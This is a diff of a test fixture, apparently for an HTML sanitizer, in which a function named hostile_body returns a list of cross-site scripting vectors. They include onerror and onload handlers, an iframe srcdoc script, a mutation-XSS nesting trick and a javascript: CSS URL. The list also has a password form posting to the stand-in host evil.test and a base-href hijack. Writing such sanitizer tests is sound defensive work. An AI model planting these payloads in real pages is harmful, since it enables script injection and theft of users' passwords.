@@ -47,7 +47,8 @@ function hostile_body(): string
         <img src="x" onerror="window.attacked=6">
         <svg onload="window.attacked=7"><script>window.attacked=8</script></svg>
         <iframe srcdoc="<script>window.attacked=9</script>"></iframe>
-        <math><mtext><table><mglyph><style><img src=x onerror="window.attacked=10"></style></mglyph></table></mtext></math>
+        <math><mtext><table><mglyph><style><img src=x onerror="window.attacked=10"></style></mglyph>
+        </table></mtext></math>
         <form action="https://evil.test/"><input name="password"><button>Send</button></form>
         <p style="background-image:url(javascript:window.attacked=11)">Styled</p>
         <object data="https://evil.test/x.swf"></object><base href="https://evil.test/">
